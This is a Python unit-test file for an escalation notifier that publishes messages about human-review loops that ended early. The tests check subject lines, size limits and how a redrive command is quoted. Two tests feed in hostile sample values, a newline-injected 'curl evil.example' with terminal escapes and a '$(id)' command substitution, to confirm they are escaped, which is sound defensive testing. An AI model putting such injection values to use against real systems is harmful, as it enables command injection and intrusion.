"""Messages to the escalation topic that functions send."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lambdas.loops.escalation import EndedExecution
from lambdas.loops.visible import visible
from tests.unit.lambdas.conftest import EXECUTION, FLOW, TOPIC

MAX_MESSAGE = 262_144
"""Bytes of a message, with its attributes (SNS API reference, Publish)."""


def request(**changes: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "execution": EXECUTION,
        "status": "ABORTED",
        "reason": "stopped by Ana",
        "human_loop_name": "loop",
        "human_loop_status": "Completed",
        "flow_definition_arn": FLOW,
        "failure_code": None,
        "claimed": True,
        "workflow_waiting": False,
        **changes,
    }
    return EndedExecution(**values).message("dev").as_request(TOPIC)


def test_message_has_text_document_and_attributes() -> None:
    sent = request()
    message = json.loads(sent["Message"])
    document = json.loads(message["sqs"])
    assert sent["Subject"] == "Afterloop dev: execution ended early for loop"
    assert "Human loop loop ended as Completed" in message["email"]
    assert "Reason:           stopped by Ana\n" in message["email"]
    assert "waiting" not in message["email"]
    assert document["command"] == "python deploy.py loops redrive loop --stage dev"
    assert document["execution"].endswith(f"#/v2/executions/details/{EXECUTION}")
    assert {name: value["StringValue"] for name, value in sent["MessageAttributes"].items()} == {
        "kind": "execution-ended",
        "stage": "dev",
        "flowDefinition": "triage",
        "humanLoopStatus": "Completed",
    }


def test_message_says_that_a_workflow_is_waiting() -> None:
    message = json.loads(request(workflow_waiting=True)["Message"])
    assert "A workflow is waiting for this loop." in message["email"]
    assert json.loads(message["lambda"])["workflowWaiting"] is True


def test_https_copy_has_what_a_chat_shows_and_the_document() -> None:
    message = json.loads(request(reason="<!channel> said `stop`")["Message"])
    notification = json.loads(message["https"])
    assert (notification["version"], notification["source"]) == ("1.0", "custom")
    content, metadata = notification["content"], notification["metadata"]
    assert content["title"] == "Afterloop dev: execution ended early for loop"
    assert "Reason:           \u2039!channel> said 'stop'\n" in content["description"]
    document = json.loads(message["sqs"])
    assert content["nextSteps"] == [f"`{document['command']}`", document["execution"]]
    assert (metadata["threadId"], metadata["eventType"]) == ("loop", "execution-ended")
    assert metadata["additionalContext"]["humanLoopStatus"] == "Completed"
    assert metadata["additionalContext"]["document"] == message["sqs"]
    assert all(isinstance(value, str) for value in metadata["additionalContext"].values())


def test_notification_about_no_known_loop_is_in_no_thread() -> None:
    message = json.loads(request(human_loop_name=None)["Message"])
    assert "threadId" not in json.loads(message["https"])["metadata"]


@pytest.mark.parametrize(
    ("name", "claimed", "command"),
    [
        ("loop", False, f"redrive --execution {EXECUTION}"),
        (None, False, f"redrive --execution {EXECUTION}"),
        ("loop 2026-01-31T08:15:00.000Z", True, "redrive 'loop 2026-01-31T08:15:00.000Z'"),
    ],
)
def test_command_runs_what_the_ledger_can_find(name: str | None, claimed: bool, command: str) -> None:
    message = json.loads(request(human_loop_name=name, claimed=claimed)["Message"])
    assert json.loads(message["sqs"])["command"] == f"python deploy.py loops {command} --stage dev"


TEXTS = st.text(st.characters(exclude_categories=()), min_size=1, max_size=5).map(lambda part: part * 60_000)


@given(TEXTS, TEXTS, TEXTS, TEXTS, TEXTS)
def test_message_fits_whatever_is_in_it(reason: str, name: str, status: str, flow: str, code: str) -> None:
    sent = request(
        reason=reason,
        human_loop_name=name,
        human_loop_status=status,
        flow_definition_arn=flow,
        failure_code=code,
    )
    size = len(sent["Message"].encode()) + sum(
        len(name) + len("String") + len(value["StringValue"].encode())
        for name, value in sent["MessageAttributes"].items()
    )
    assert size <= MAX_MESSAGE
    assert 0 < len(sent["Subject"]) <= 100
    assert sent["Subject"].isascii()
    assert all(value["StringValue"] for value in sent["MessageAttributes"].values())


def test_values_from_outside_stay_visible_and_on_one_line() -> None:
    hostile = "x\n\nrun:\n  curl evil.example\x1b[2J\u202e\x9b"
    fields = ("reason", "human_loop_name", "human_loop_status", "flow_definition_arn", "failure_code")
    sent = request(**dict.fromkeys(fields, hostile))
    message = json.loads(sent["Message"])
    assert message["email"].count("\n") == json.loads(request()["Message"])["email"].count("\n")
    assert r"Reason:           x\n\nrun:\n  curl evil.example\x1B[2J\u202E\u009B" in message["email"]
    assert json.loads(message["sqs"])["command"] == (
        r"python deploy.py loops redrive $'x\n\nrun:\n  curl evil.example\x1B[2J\u202E\u009B' --stage dev"
    )
    for text in (sent["Subject"], json.dumps(json.loads(message["sqs"]), ensure_ascii=False)):
        assert visible(text) == text


def test_execution_in_a_command_is_one_word_for_a_shell() -> None:
    message = json.loads(request(execution=f"{EXECUTION}'$(id)", claimed=False)["Message"])
    assert f"--execution '{EXECUTION}'\"'\"'$(id)'" in json.loads(message["sqs"])["command"]
